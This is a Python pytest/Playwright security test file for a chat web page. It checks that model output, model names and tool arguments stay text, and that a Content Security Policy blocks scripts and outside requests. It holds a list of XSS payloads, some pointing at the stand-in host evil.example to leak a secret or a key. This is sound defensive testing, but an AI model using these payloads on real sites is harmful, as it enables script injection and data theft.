"""Models, adapters and files may be hostile: what they write stays text."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Error, expect

from sdk.testing import FakeAnswer, FakeLLM
from tests.serving.page.conftest import Served, Visitor

Serve = Callable[..., Served]
Visit = Callable[..., Visitor]

# ruff: noqa: E501  (hostile texts)
FOLDER = Path(__file__).parents[3] / "sdk" / "serving" / "page"
EVIL = "<img src=x onerror=window.evil=1>"
OUTPUTS = [
    "<script>window.evil=1</script>",
    EVIL,
    "<svg/onload=window.evil=1><iframe srcdoc='<script>parent.evil=1</script>'></iframe>",
    "[link](javascript:window.evil=1) [two](JaVaScRiPt:window.evil=1) [three](\tjavascript:evil=1)",
    "[data](data:text/html,<script>window.evil=1</script>) [own](/v1/models) [up](../health)",
    '[title](https://a.example "x\\" onclick=window.evil=1 y")',
    "![picture](https://evil.example/?secret) ![two](data:image/svg+xml,<svg/onload=evil=1>)",
    "<a href='javascript:window.evil=1'>a</a> <javascript:window.evil=1> <base href=//evil.example>",
    "```html\n<script>window.evil=1</script>\n```",
    '```"><img/src=x/onerror=window.evil=1>\ncode\n```',
    "| <img src=x onerror=window.evil=1> | b |\n|---|---|\n| `<script>` | </td><script> |",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=key></form><meta http-equiv=refresh content=0>",
    "\\<img src=x onerror=window.evil=1\\> &lt;img src=x onerror=window.evil=1&gt;",
    "# <img src=x onerror=window.evil=1>\n> <script>window.evil=1</script>\n1. <svg onload=evil=1>",
    "__proto__ constructor [__proto__](https://a.example/__proto__)",
    "\u202ereversed\u0000nul \ud7ff <\u0000script>window.evil=1</script>",
]
#: Elements that the page itself makes in a message.
ALLOWED = {
    *(
        "ARTICLE",
        "H3",
        "H4",
        "H5",
        "H6",
        "P",
        "DIV",
        "SPAN",
        "BUTTON",
        "PRE",
        "CODE",
        "A",
        "BR",
        "BDI",
    ),
    *("UL", "OL", "LI", "BLOCKQUOTE", "HR", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"),
    *("STRONG", "EM", "DEL", "DETAILS", "SUMMARY", "FORM", "LABEL", "TEXTAREA"),
}
LOOK = """() => {
  const nodes = [...document.querySelectorAll('.messages *')];
  return {
    tags: [...new Set(nodes.map((node) => node.tagName))],
    handlers: nodes.flatMap((node) => node.getAttributeNames()).filter((name) => /^on|^style$|^src/.test(name)),
    links: nodes.filter((node) => node.tagName === 'A').map((node) => node.href),
    evil: window.evil,
  };
}"""


def test_what_a_model_writes_never_becomes_markup(serve: Serve, visit: Visit) -> None:
    text = "\n\n".join(OUTPUTS)
    visitor = visit(serve({EVIL: FakeLLM(text)}).address)
    page = visitor.page
    visitor.ask(f"Hello {EVIL}")
    visitor.ended()
    found = page.evaluate(LOOK)
    assert set(found["tags"]) <= ALLOWED
    assert found["handlers"] == []
    assert found["evil"] is None
    for link in found["links"]:
        assert link.startswith(("https://a.example/", "https://evil.example/")), link
    shown = page.locator(".messages").inner_text()
    assert "<script>window.evil=1</script>" in shown and EVIL in shown
    expect(page.get_by_role("article", name=f"Answer of {EVIL}")).to_be_visible()
    assert page.get_by_label("Model", exact=True).input_value() == EVIL
    page.reload()  # from the storage, too
    page.get_by_role("article", name=f"Answer of {EVIL}").wait_for()
    assert page.evaluate(LOOK) == found


@pytest.mark.slow
def test_names_of_tools_and_their_arguments_stay_text(serve: Serve, visit: Visit) -> None:
    llm = FakeLLM(FakeAnswer(tool_calls=[("paint", {EVIL: EVIL})]))
    visitor = visit(serve({"tiny": llm}).address)
    page = visitor.page
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Tool definitions").fill('{"name": "paint"}')
    visitor.ask("Hi")
    expect(page.locator(".call code")).to_contain_text("onerror=window.evil=1")
    assert set(page.evaluate(LOOK)["tags"]) <= ALLOWED
    assert page.evaluate("window.evil") is None


def test_the_browser_itself_refuses_markup_scripts_and_other_servers(
    serve: Serve, visit: Visit
) -> None:
    visitor = visit(serve({"tiny": FakeLLM()}).address)
    page = visitor.page
    for code in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.createElement('script').text = 'evil = 1'",
    ):
        with pytest.raises(Error, match=r"Trusted|unsafe-eval|Content Security Policy"):
            page.evaluate(f"() => {{ {code}; }}")
    with pytest.raises(Error, match="Failed to fetch"):
        page.evaluate("fetch('https://evil.example/')")
    page.evaluate("() => { document.body.append(Object.assign(new Image(), {src: 'data:,'})); }")
    page.evaluate("() => { document.body.setAttribute('style', 'display: none'); }")
    assert page.locator(".chat").is_visible()
    policy = [text for text in visitor.errors if "Content Security Policy" in text]
    assert len(policy) >= 3  # the request, the picture and the style
    visitor.errors.clear()


@pytest.mark.slow
def test_the_files_have_no_inline_code_and_no_address_of_another_server() -> None:
    page = (FOLDER / "index.html").read_text()
    assert re.findall(r"<style|\sstyle=|\son\w+=|<script(?![^>]*\ssrc=\"page/)", page) == []
    for path in FOLDER.rglob("*"):
        if not path.is_file():
            continue
        text = path.read_text().replace("http://www.w3.org/2000/svg", "")
        assert re.findall(r"(?:https?:)?//\w[\w.-]*\.\w+", text) == [], path.name
        if path.suffix == ".js":
            made = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function"
            assert re.findall(made, text) == [], path.name
